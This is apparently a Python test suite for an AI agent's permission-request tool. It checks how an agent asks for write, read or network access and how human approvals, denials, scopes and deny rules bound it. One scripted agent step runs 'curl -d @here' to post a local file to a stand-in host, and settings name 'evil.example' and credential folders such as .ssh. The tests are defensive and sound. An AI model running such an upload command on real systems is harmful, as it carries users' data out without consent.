"""A model asks to be allowed more: one question, exactly that, for as long as the person said."""

import json
from pathlib import Path
from typing import Any

import anyio
import pytest

from ouroboros.core.commands import Approve, Deny, Scope
from ouroboros.core.events import PermissionRequested, PermissionsGranted
from ouroboros.llm.turns import ScriptedCall, Turn
from tests.story.stage import Stage, call, stage

DONE = Turn(text="Done.")
SOCKET = "python3 probe"
PROBE = 'import socket; socket.socket().close(); print("there is", "a network")'
NO_TMP = {"exclude_tmp": True}


def asking(**wish: Any) -> ScriptedCall:
    wish.setdefault("reason", "the build writes there")
    return call("call_tool", name="request_permissions", arguments=wish)


def one(*calls: ScriptedCall) -> list[Turn]:
    return [*(Turn(tool_calls=(each,)) for each in calls), DONE]


def run(command: str) -> ScriptedCall:
    return call("shell", command=command)


def told(s: Stage) -> list[str]:
    return [str(m["content"]) for m in s.body()["messages"] if m["role"] == "tool"]


async def answered(s: Stage, *answers: Scope | Deny | Approve, text: str = "Go") -> None:
    """A run whose questions are answered in this order."""

    async def answer() -> None:
        for number, said in enumerate(answers, before + 1):
            await s.until(PermissionRequested, number)
            asked = s.events(PermissionRequested)[number - 1].request_id
            match said:
                case Deny(message=message):
                    await s.session.send(Deny(request_id=asked, message=message))
                case Approve(input=written):
                    await s.session.send(Approve(request_id=asked, input=written))
                case _:
                    await s.session.send(Approve(request_id=asked, scope=said))

    before = len(s.events(PermissionRequested))
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(answer)
        await s.run(text)


@pytest.mark.deep
@pytest.mark.proves("E25")
@pytest.mark.parametrize("bubblewrap", ["auto", pytest.param("off", marks=pytest.mark.deep)])
async def test_a_folder_may_be_written_until_the_run_ends(tmp_path: Path, bubblewrap: str) -> None:
    other = tmp_path / "other"
    other.mkdir()
    write = run(f"echo x >> {other}/made && echo it went")
    turns = [*one(write, asking(write=[str(other)]), write), *one(write)]
    sandbox = {**NO_TMP, "bubblewrap": bubblewrap, "landlock_alone": "loose"}
    async with stage(tmp_path, turns, interactive=True, sandbox=sandbox) as s:
        await answered(s, "once")
        (asked,) = s.events(PermissionRequested)
        assert asked.tool == "request_permissions"
        assert asked.action == f"Until it is done: write in {other}"
        assert json.loads(asked.input) == {
            "reason": "the build writes there",
            "write": [str(other)],
        }
        assert asked.scopes == ("once", "session")
        (granted,) = s.events(PermissionsGranted)
        assert (granted.write, granted.network, granted.scope) == ((str(other),), False, "turn")
        first, yes, second = told(s)
        assert "stopped this" in first
        assert f"until this work is done: write in {other}" in yes
        assert "it went" in second
        await s.run("Again")
        assert "stopped this" in told(s)[3]
        assert s.session.state.grants == []
    assert (other / "made").read_text() == "x\n"


@pytest.mark.deep
@pytest.mark.proves("E25")
async def test_a_yes_for_the_session_holds_after_a_restart(tmp_path: Path) -> None:
    (tmp_path / "work").mkdir()
    (tmp_path / "work" / "probe").write_text(PROBE)
    curl = run("curl -d @here http://example.invalid/")
    turns = one(run(SOCKET), asking(network=True), run(SOCKET), curl)
    no = Deny(request_id="", message="no")
    # A script may send, so with a network it is asked about too, unless a rule names it.
    rules = {"allow": [f"shell({SOCKET})"]}
    async with stage(tmp_path, turns, interactive=True, sandbox=NO_TMP, permissions=rules) as s:
        await answered(s, "session", no)
        assert ["there is a network" in text for text in told(s)[:3]] == [False, False, True]
        # What was read may be carried away from now on, so that is asked about.
        assert "carry data out over the network" in s.events(PermissionRequested)[1].reason
    later = one(run(SOCKET), asking(network=True))
    async with stage(tmp_path, later, resume=s.session.id, sandbox=NO_TMP, permissions=rules) as s:
        await s.run("Go on")
        assert "there is a network" in told(s)[-2]
        # A session's yes to one wish is none to the next.
        assert "request_permissions was refused" in told(s)[-1]


@pytest.mark.deep
@pytest.mark.proves("E25")
async def test_no_wider_than_asked_and_never_over_a_rule_that_denies(tmp_path: Path) -> None:
    other, beside = tmp_path / "other", tmp_path / "beside"
    for folder in (other / "kept", other / ".git", beside):
        folder.mkdir(parents=True)
    places = (other / "a.txt", other / "kept" / "a.txt", other / ".git" / "a", beside / "a.txt")
    writes = [call("write", path=str(place), content="x") for place in places]
    read = call("read", path=str(beside / "b.txt"))
    (beside / "b.txt").write_text("to be read")
    turns = one(asking(write=[str(other)], read=[str(beside)]), *writes, read)
    no = Deny(request_id="", message="no")
    async with stage(
        tmp_path,
        turns,
        mode="ask",
        interactive=True,
        permissions={"deny": [f"write(/{other}/kept/**)"]},
    ) as s:
        await answered(s, "once", no, no)
        asked = [question.action for question in s.events(PermissionRequested)]
        assert asked[1:] == [f"Write {places[2]}", f"Write {places[3]}"]
        assert "denies this" in told(s)[2]
        assert "to be read" in told(s)[5]
    assert [place.exists() for place in places] == [True, False, False, False]


@pytest.mark.deep
async def test_a_folder_of_control_data_may_be_named_itself(tmp_path: Path) -> None:
    git = tmp_path / "work" / ".git"
    git.mkdir(parents=True)
    write = run("echo x > .git/made && echo it went")
    turns = one(write, asking(write=[str(git)]), write)
    closed = {**NO_TMP, "git": "closed"}
    async with stage(tmp_path, turns, interactive=True, sandbox=closed) as s:
        # The output of the first was read since, and .git steers what programs do later.
        await answered(s, "once", "once")
        assert "steers what programs" in s.events(PermissionRequested)[1].reason
        assert ["it went" in text for text in told(s)] == [False, False, True]


@pytest.mark.deep
@pytest.mark.proves("E25")
async def test_rules_hold_for_the_run(tmp_path: Path) -> None:
    touch, other = run("touch here"), run("touch there")
    turns = [*one(asking(rules=["shell(touch here)"]), touch, other), *one(touch)]
    no = Deny(request_id="", message="no")
    async with stage(tmp_path, turns, mode="ask", interactive=True) as s:
        await answered(s, "once", no)
        assert s.events(PermissionRequested)[1].input == "touch there"
        await answered(s, no, text="Again")
        assert s.events(PermissionRequested)[2].input == "touch here"


@pytest.mark.proves("E25")
async def test_a_person_may_give_less(tmp_path: Path) -> None:
    less = json.dumps({"reason": "enough", "network": True})
    turns = one(asking(network=True, write=[str(tmp_path / "work")]))
    async with stage(tmp_path, turns, interactive=True) as s:
        await answered(s, Approve(request_id="", input=less))
        (granted,) = s.events(PermissionsGranted)
        assert (granted.network, granted.write, granted.scope) == (True, (), "turn")
        assert "the user changed this" in told(s)[0]


@pytest.mark.proves("E25")
@pytest.mark.parametrize(
    ("settings", "why"),
    [
        ({}, "Nobody is here to approve"),
        ({"mode": "plan"}, "plan mode"),
        ({"approval_policy": "never"}, "the approval policy is never"),
        (
            {"approval_policy": "granular", "approval": {"request_permissions": False}},
            "approval.request_permissions is off",
        ),
        ({"permissions": {"allow": ["request_permissions", "*"]}}, "Nobody is here to approve"),
        ({"permissions": {"deny": ["request_permissions"]}}, "the rule request_permissions denies"),
        ({"sandbox": {"network": "on"}}, "commands reach the network already"),
        ({"web": {"deny": ["evil.example"]}}, "some hosts are denied"),
    ],
    ids=["nobody", "plan", "never", "granular", "allowed", "denied", "on", "hosts"],
)
async def test_it_is_refused(tmp_path: Path, settings: dict[str, Any], why: str) -> None:
    async with stage(tmp_path, one(asking(network=True)), **settings) as s:
        await s.run("Go")
        assert why in told(s)[0]
        assert s.session.state.grants == []


@pytest.mark.deep
@pytest.mark.proves("E25")
async def test_what_cannot_be_had_is_not_even_asked_for(tmp_path: Path) -> None:
    for folder in ("work", "home", ".ssh", "other"):
        (tmp_path / folder).mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "other")
    (tmp_path / "file").write_text("x")
    wishes: list[tuple[dict[str, Any], str]] = [
        ({}, "say what you need"),
        ({"write": ["other"]}, "not absolute"),
        ({"read": [f"{tmp_path}/work/../other"]}, "ask for that"),
        ({"write": [f"{tmp_path}/link"]}, f"leads to {tmp_path}/other"),
        ({"write": [f"{tmp_path}/file"]}, "no folder that exists"),
        ({"read": ["/"]}, "everything there is"),
        ({"write": [str(tmp_path)]}, "all that is the user's"),
        ({"read": [f"{tmp_path}/home/keys.toml"]}, "not granted to a model"),
        ({"write": [f"{tmp_path}/home"]}, "not granted to a model"),
        ({"read": [f"{tmp_path}/.ssh"]}, "not granted to a model"),
        ({"write": [f"{tmp_path}/other"]}, "denies it"),
        ({"rules": ["*"]}, "too much"),
        ({"rules": ["shell"]}, "too much"),
        ({"rules": ["shell(*)"]}, "too much"),
        ({"rules": ["Bash(bash -c:*)"]}, "anything at all"),
        ({"rules": ["exec_command(re:.*)"]}, "anything at all"),
        ({"rules": ["request_permissions(x)"]}, "too much"),
        ({"rules": ["what is this"]}, "no rule"),
    ]
    turns = one(*(asking(**wish) for wish, _ in wishes))
    async with stage(
        tmp_path,
        turns,
        interactive=True,
        permissions={"deny": [f"write(/{tmp_path}/other/**)"]},
        limits={"max_turns": 30},
    ) as s:
        await s.run("Go")
        assert s.events(PermissionRequested) == []
        assert [
            why for (_, why), text in zip(wishes, told(s), strict=True) if why not in text
        ] == []
